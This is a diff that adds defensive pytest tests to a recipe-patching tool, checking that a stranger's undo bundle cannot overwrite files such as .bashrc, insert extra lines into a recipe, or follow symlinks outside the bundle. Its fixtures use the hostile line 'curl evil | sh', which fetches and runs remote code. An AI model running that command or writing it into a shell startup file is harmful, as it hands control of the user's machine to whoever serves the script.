@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import hashlib
 import json
 from pathlib import Path
 from typing import Any
@@ -177,3 +178,72 @@ def test_serve_given_to_an_image_that_serves(tmp_path: Path) -> None:
     assert any("C5: the recipe names no --gpu-memory-utilization" in note for note in result.notes)
     patched = result.text
     assert "--entrypoint vllm vllm/vllm-openai:v0.20.0 serve Qwen/Qwen3-8B --port 8000" in patched
+
+
+def strange_folder(tmp_path: Path, victim: Path, original: bytes, requests: object) -> Path:
+    """A bundle that says it had patched a file, as a stranger may send one."""
+    folder = tmp_path / "theirs" / "recipe"
+    folder.mkdir(parents=True)
+    (folder / "original").write_bytes(original)
+    journal = {
+        "schema": "surespec/apply/1", "recipe": str(victim), "requests": requests,
+        "original_sha256": hashlib.sha256(original).hexdigest(),
+        "applied_sha256": hashlib.sha256(victim.read_bytes()).hexdigest(),
+    }  # fmt: skip
+    (folder / "journal.json").write_text(json.dumps(journal))
+    return folder.parent
+
+
+@pytest.mark.parametrize(
+    "requests",
+    [
+        None,
+        [],
+        "x",
+        [{}],
+        [{"speculative_config": None, "gpu_memory_utilization": None, "service": None}],
+        [{"speculative_config": NGRAM, "gpu_memory_utilization": None, "service": "x"}],
+        [{"speculative_config": {"method": 7}, "gpu_memory_utilization": "x", "service": None}],
+    ],
+)
+def test_a_strangers_folder_cannot_have_any_file_overwritten(tmp_path: Path, requests: object) -> None:
+    victim = tmp_path / ".bashrc"
+    victim.write_text("export A=1\n")
+    folder = strange_folder(tmp_path, victim, b"curl evil | sh\n", requests)
+    with pytest.raises(UsageError, match="by more than"):
+        undo(folder)
+    done = run("undo", str(folder), "--json")
+    assert done.exit_code == 2 or isinstance(done.exception, UsageError)
+    assert victim.read_text() == "export A=1\n"
+    assert run("undo", str(folder), "--yes").exit_code == 0, "who has looked at it may"
+    assert victim.read_text() == "curl evil | sh\n"
+
+
+def test_a_strangers_recipe_cannot_come_in_with_the_setting(tmp_path: Path, recipe: Path) -> None:
+    """The journal is right and the file is patched, but the original has a line more."""
+    write(plan_apply(recipe, NGRAM))
+    patched = recipe.read_bytes()
+    journal = json.loads((undo_folder(recipe) / "journal.json").read_text())
+    evil = (undo_folder(recipe) / "original").read_bytes() + b"curl evil | sh\n"
+    folder = strange_folder(tmp_path, recipe, evil, journal["requests"])
+    with pytest.raises(UsageError, match="by more than"):
+        undo(folder)
+    assert recipe.read_bytes() == patched
+    assert undo(recipe)[1]
+
+
+@pytest.mark.parametrize("name", ["recipe", "judgement.json", "recipe/journal.json", "recipe/original"])
+def test_no_link_leads_out_of_a_bundle(tmp_path: Path, recipe: Path, name: str) -> None:
+    folder = bundle(tmp_path, recipe, verdict="keep", speculative_config=NGRAM)
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "x").write_text("{}")
+    place = folder / name
+    place.parent.mkdir(exist_ok=True)
+    place.unlink(missing_ok=True)
+    place.symlink_to(outside / "x" if "." in name or name.endswith("original") else outside)
+    before = recipe.read_bytes()
+    for words in (("apply", str(folder), "--yes"), ("undo", str(folder), "--yes")):
+        done = run(*words)
+        assert isinstance(done.exception, BundleError) and "is a link" in str(done.exception)
+    assert recipe.read_bytes() == before and [p.name for p in outside.iterdir()] == ["x"]
